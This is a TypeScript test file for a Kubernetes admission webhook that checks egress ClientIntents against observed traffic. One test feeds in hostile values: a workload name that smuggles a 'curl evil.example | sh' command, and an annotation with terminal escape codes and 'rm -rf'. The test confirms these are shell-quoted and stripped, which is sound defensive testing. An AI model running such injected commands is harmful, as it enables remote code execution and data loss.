import test from "ava";
import fc from "fast-check";
import { decide, namespaceContents, type AdmissionContext } from "../src/admission/decide.js";
import { parseReview, reviewResponse, type AdmissionRequest } from "../src/admission/review.js";
import {
  ago,
  clientIntents,
  DAY,
  internet,
  NOW,
  observedEgress,
  parseIntents,
  parseObserved,
  WINDOW,
} from "./helpers/factories.js";
import { identify, identitySource } from "../src/collector/pods.js";
import { podObject } from "./helpers/pods.js";
import { review as reviewOf } from "./helpers/review.js";

const observed = parseObserved([
  observedEgress({
    destinations: [
      internet("api.openai.com", ["104.18.7.192"], [443]),
      internet("sts.amazonaws.com", [], [443], ago(DAY)),
    ],
    declared: [[{ internet: { domains: ["old.example.com"] } }, ago(60 * DAY)]],
  }),
]);

function ctx(mode: string | undefined, extra: Partial<AdmissionContext> = {}): AdmissionContext {
  return {
    namespaceLabels: mode ? { "egress.otter.dev/gate": mode } : {},
    ...namespaceContents([], observed),
    listening: { state: "live" },
    now: NOW,
    windowMs: WINDOW,
    denyOn: new Set(["missing", "unnecessary"]),
    ...extra,
  };
}

/** The review of an object, as the API server sends it (its kind as given). */
const review = (
  object: Record<string, unknown>,
  kind: { group: string; version: string; kind: string },
  operation: "CREATE" | "UPDATE" = "CREATE",
) => reviewOf({ object, kind, operation });

function request(body: unknown): AdmissionRequest {
  const r = parseReview(body);
  if ("error" in r) throw new Error(r.error);
  return r.request;
}

const CI_KIND = { group: "k8s.otterize.com", version: "v2beta1", kind: "ClientIntents" };
const stale = clientIntents({
  kind: "Deployment",
  targets: [
    { internet: { domains: ["api.openai.com"], ports: [443] } },
    { internet: { domains: ["old.example.com"] } },
  ],
});
const good = clientIntents({
  kind: "Deployment",
  targets: [{ internet: { domains: ["api.openai.com", "sts.amazonaws.com"], ports: [443] } }],
});

test("enforce denies intents that omit observed egress or keep unused egress, naming both and the fix", (t) => {
  const answer = decide(request(review(stale, CI_KIND)), ctx("enforce"));
  t.false(answer.allowed);
  t.regex(answer.message ?? "", /dev\/joke-worker \(Deployment\)/);
  t.regex(
    answer.message ?? "",
    /missing sts\.amazonaws\.com:443 \(last seen 2026-11-24T10:00:00Z\)/,
  );
  t.regex(answer.message ?? "", /unnecessary old\.example\.com \(not seen in 168h\)/);
  t.regex(answer.message ?? "", /kubectl otter egress suggest -n dev joke-worker/);
});

test("correct intents pass; warn mode allows with short warnings; other namespaces are not judged", (t) => {
  t.deepEqual(decide(request(review(good, CI_KIND)), ctx("enforce")), {
    allowed: true,
    warnings: [],
    mode: "enforce",
  });
  const warned = decide(request(review(stale, CI_KIND)), ctx("warn"));
  t.true(warned.allowed);
  t.is(warned.mode, "warn");
  t.deepEqual(warned.failing, ["missing", "unnecessary"], "what the metrics count");
  t.true(warned.warnings.length >= 2);
  t.true(
    warned.warnings.every((w) => w.length <= 120),
    "each warning is short",
  );
  t.deepEqual(decide(request(review(stale, CI_KIND)), ctx(undefined)), {
    allowed: true,
    warnings: [],
  });
});

test("the skip annotation allows, with a warning", (t) => {
  const skipped = {
    ...stale,
    metadata: {
      name: "joke-worker",
      namespace: "dev",
      annotations: { "egress.otter.dev/skip": "migration" },
    },
  };
  const answer = decide(request(review(skipped, CI_KIND)), ctx("enforce"));
  t.true(answer.allowed);
  t.deepEqual(answer.warnings, ["otter egress: check skipped (migration)"]);
});

test("a Deployment is judged with its ClientIntents from the cache", (t) => {
  const deployment = {
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "joke-worker", namespace: "dev" },
    spec: { template: {} },
  };
  const apps = { group: "apps", version: "v1", kind: "Deployment" };
  t.false(
    decide(
      request(review(deployment, apps)),
      ctx("enforce", namespaceContents(parseIntents([stale]), observed)),
    ).allowed,
  );
  t.true(
    decide(
      request(review(deployment, apps)),
      ctx("enforce", namespaceContents(parseIntents([good]), observed)),
    ).allowed,
  );
  // With no ClientIntents at all, everything observed is missing.
  t.false(decide(request(review(deployment, apps)), ctx("enforce")).allowed);
  // The Otterize workload-name annotation on the pod template names the workload.
  const renamed = {
    ...deployment,
    metadata: { name: "other", namespace: "dev" },
    spec: {
      template: {
        metadata: { annotations: { "intents.otterize.com/workload-name": "joke-worker" } },
      },
    },
  };
  t.true(
    decide(
      request(review(renamed, apps)),
      ctx("enforce", namespaceContents(parseIntents([good]), observed)),
    ).allowed,
  );
});

test("a stopped collector makes nothing unnecessary", (t) => {
  const onlyOld = clientIntents({
    kind: "Deployment",
    targets: [
      { internet: { domains: ["api.openai.com", "sts.amazonaws.com", "old.example.com"] } },
    ],
  });
  t.false(decide(request(review(onlyOld, CI_KIND)), ctx("enforce")).allowed);
  t.true(
    decide(
      request(review(onlyOld, CI_KIND)),
      ctx("enforce", { listening: { state: "stopped", since: NOW - DAY } }),
    ).allowed,
  );
});

test("a workload that cannot be observed is allowed to keep unused targets, and the warning says why", (t) => {
  const onlyOld = clientIntents({
    kind: "Deployment",
    targets: [
      { internet: { domains: ["api.openai.com", "sts.amazonaws.com", "old.example.com"] } },
    ],
  });
  const blind = parseObserved([
    observedEgress({
      destinations: [
        internet("api.openai.com", ["104.18.7.192"], [443]),
        internet("sts.amazonaws.com", [], [443], ago(DAY)),
      ],
      declared: [[{ internet: { domains: ["old.example.com"] } }, ago(60 * DAY)]],
      coverage: { state: "none", reason: "pods use dnsPolicy Default" },
    }),
  ]);
  const answer = decide(
    request(review(onlyOld, CI_KIND)),
    ctx("enforce", namespaceContents([], blind)),
  );
  t.true(answer.allowed);
  t.deepEqual(answer.warnings, [
    "otter egress: dev/joke-worker (Deployment): 1 declared target unverified: not used, but pods use dnsPolicy Default: egress cannot be observed",
  ]);
});

test("invalid ClientIntents are denied in enforce mode with the reason", (t) => {
  const bad = clientIntents({ targets: [{ internet: {} }] });
  const answer = decide(request(review(bad, CI_KIND)), ctx("enforce"));
  t.false(answer.allowed);
  t.regex(
    answer.message ?? "",
    /spec\.targets\[0\]\.internet: an internet target must contain ips or domains/,
  );
});

test("the review answer is a well-formed AdmissionReview", (t) => {
  t.deepEqual(reviewResponse("u-1", { allowed: false, message: "no", warnings: [] }), {
    apiVersion: "admission.k8s.io/v1",
    kind: "AdmissionReview",
    response: {
      uid: "u-1",
      allowed: false,
      status: { code: 403, reason: "Forbidden", message: "no" },
    },
  });
  t.deepEqual(reviewResponse("u-2", { allowed: true, warnings: ["w"] }), {
    apiVersion: "admission.k8s.io/v1",
    kind: "AdmissionReview",
    response: { uid: "u-2", allowed: true, warnings: ["w"] },
  });
});

test("property: any JSON body is parsed to a request or an error, and deciding never throws", (t) => {
  fc.assert(
    fc.property(fc.jsonValue(), fc.anything(), (body, object) => {
      for (const candidate of [
        body,
        {
          apiVersion: "admission.k8s.io/v1",
          kind: "AdmissionReview",
          request: { uid: "x", kind: CI_KIND, operation: "CREATE", namespace: "dev", object },
        },
      ]) {
        const r = parseReview(candidate);
        if ("error" in r) continue;
        decide(r.request, ctx("enforce"));
      }
      return true;
    }),
    { numRuns: 500 },
  );
  t.pass();
});

const APPS = { group: "apps", version: "v1", kind: "Deployment" };
const staleCtx = () => ctx("enforce", namespaceContents(parseIntents([stale]), observed));

function update(object: Record<string, unknown>, oldObject: Record<string, unknown>, kind = APPS) {
  const body = review(object, kind, "UPDATE") as { request: Record<string, unknown> };
  body.request.oldObject = oldObject;
  return request(body);
}

const deployment = (
  extra: { meta?: Record<string, unknown>; replicas?: number; image?: string } = {},
) => ({
  apiVersion: "apps/v1",
  kind: "Deployment",
  metadata: { name: "joke-worker", namespace: "dev", ...extra.meta },
  spec: {
    replicas: extra.replicas ?? 1,
    template: { spec: { containers: [{ name: "w", image: extra.image ?? "joke-worker:1" }] } },
  },
});

test("only what can change egress is judged: deletes, metadata, status and scale never hang on the gate", (t) => {
  const before = deployment();
  // The pod template changes: judged (and denied, its intents are stale).
  t.false(decide(update(deployment({ image: "joke-worker:2" }), before), staleCtx()).allowed);
  // A finalizer taken off an object being deleted (kubectl delete --cascade=foreground).
  const deleting = deployment({
    meta: { deletionTimestamp: "2026-11-25T10:00:00Z", finalizers: [] },
  });
  t.true(
    decide(
      update(deleting, deployment({ meta: { finalizers: ["foregroundDeletion"] } })),
      staleCtx(),
    ).allowed,
  );
  // Labels, annotations, finalizers, replicas: allowed without a word.
  for (const after of [
    deployment({ meta: { labels: { team: "jokes" } } }),
    deployment({ meta: { annotations: { note: "x" }, finalizers: ["example.com/hold"] } }),
    deployment({ replicas: 5 }),
  ]) {
    t.deepEqual(decide(update(after, before), staleCtx()), { allowed: true, warnings: [] });
  }
  // Taking the skip annotation off is asking to be judged again.
  const skipped = deployment({ meta: { annotations: { "egress.otter.dev/skip": "later" } } });
  t.false(decide(update(before, skipped), staleCtx()).allowed);
  // A Job made by a CronJob is the CronJob's: the Job is not gated.
  const job = {
    apiVersion: "batch/v1",
    kind: "Job",
    metadata: {
      name: "report-29400000",
      namespace: "dev",
      ownerReferences: [
        { apiVersion: "batch/v1", kind: "CronJob", name: "report", uid: "u", controller: true },
      ],
    },
    spec: { template: { spec: { containers: [{ name: "r", image: "r:1" }] } } },
  };
  t.true(
    decide(request(review(job, { group: "batch", version: "v1", kind: "Job" })), ctx("enforce"))
      .allowed,
  );
  // Only a Job the CronJob controls: a Deployment that names a CronJob as owner is judged.
  const sneaky = {
    ...deployment(),
    metadata: {
      name: "joke-worker",
      namespace: "dev",
      ownerReferences: [
        { apiVersion: "batch/v1", kind: "CronJob", name: "report", uid: "u", controller: true },
      ],
    },
  };
  t.false(decide(request(review(sneaky, APPS)), staleCtx()).allowed);
});

test("names from objects are printed, not run: the fix command is shell-quoted, control characters go", (t) => {
  const hostile = {
    ...deployment(),
    spec: {
      template: {
        metadata: {
          annotations: {
            "intents.otterize.com/workload-name": "joke-worker; curl evil.example | sh #",
          },
        },
      },
    },
  };
  const seen = parseObserved([
    observedEgress({
      name: "joke-worker; curl evil.example | sh #",
      destinations: [internet("api.openai.com", ["104.18.7.192"], [443])],
    }),
  ]);
  const answer = decide(
    request(review(hostile, APPS)),
    ctx("enforce", namespaceContents([], seen)),
  );
  t.false(answer.allowed);
  t.regex(
    answer.message ?? "",
    /kubectl otter egress suggest -n dev 'joke-worker; curl evil\.example \| sh #'$/,
  );
  const skip = decide(
    request(
      review(
        deployment({ meta: { annotations: { "egress.otter.dev/skip": "ok\u001b[2J\nrm -rf" } } }),
        APPS,
      ),
    ),
    ctx("enforce"),
  );
  t.deepEqual(skip.warnings, ["otter egress: check skipped (ok [2J rm -rf)"]);
});

test("the webhook names a workload as the collector does: Otterize's older service-name annotation too", (t) => {
  const apps = { group: "apps", version: "v1", kind: "Deployment" };
  const template = (annotations: Record<string, string>) => ({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "other", namespace: "dev" },
    spec: { template: { metadata: { annotations } } },
  });
  // joke-worker has observed egress and no intents here: judged as joke-worker, it is denied.
  const cases: Record<string, string>[] = [
    { "intents.otterize.com/service-name": "joke-worker" },
    {
      "intents.otterize.com/workload-name": "joke-worker",
      "intents.otterize.com/service-name": "x",
    },
  ];
  for (const annotations of cases) {
    const pod = podObject({ name: "other-abc", namespace: "dev", annotations });
    t.is(identify(identitySource(pod), () => undefined).workload.name, "joke-worker");
    t.false(
      decide(request(review(template(annotations), apps)), ctx("enforce")).allowed,
      JSON.stringify(annotations),
    );
  }
});
